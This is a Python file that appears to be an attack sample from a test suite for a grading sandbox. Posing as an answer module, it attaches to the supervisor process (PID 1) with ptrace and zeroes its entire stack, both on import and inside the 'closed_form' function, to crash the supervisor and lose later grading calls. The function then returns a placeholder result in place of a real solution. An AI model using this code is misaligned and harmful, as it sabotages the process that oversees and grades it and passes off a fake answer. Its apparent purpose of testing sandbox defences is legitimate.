"""Attaches to the supervisor (PID 1) with ptrace, overwrites its stack with PTRACE_POKEDATA
and lets it go on, so that it crashes and every later call is lost, unless ptrace on it is
refused (tracing the supervisor)."""
# effdl-attack: threat=supervisor build=cell tag=answer expect_lost=a2.closed_form feedback_contains="entries differ"

import ctypes
import os

PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 5, 16, 17
WALL = 0x40000000


def take_over_supervisor():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_ATTACH, 1, None, None) != 0:
        return
    try:
        os.waitpid(1, WALL)
        with open("/proc/1/maps") as fh:
            stack = [line.split()[0] for line in fh if line.rstrip().endswith("[stack]")]
        start, end = (int(x, 16) for x in stack[0].split("-"))
        for address in range(start, end, ctypes.sizeof(ctypes.c_void_p)):
            libc.ptrace(PTRACE_POKEDATA, 1, address, 0)
    except (OSError, IndexError):
        pass
    libc.ptrace(PTRACE_DETACH, 1, None, None)


take_over_supervisor()


def closed_form(X, y):
    take_over_supervisor()
    return [0.0, 0.0, 0.0]
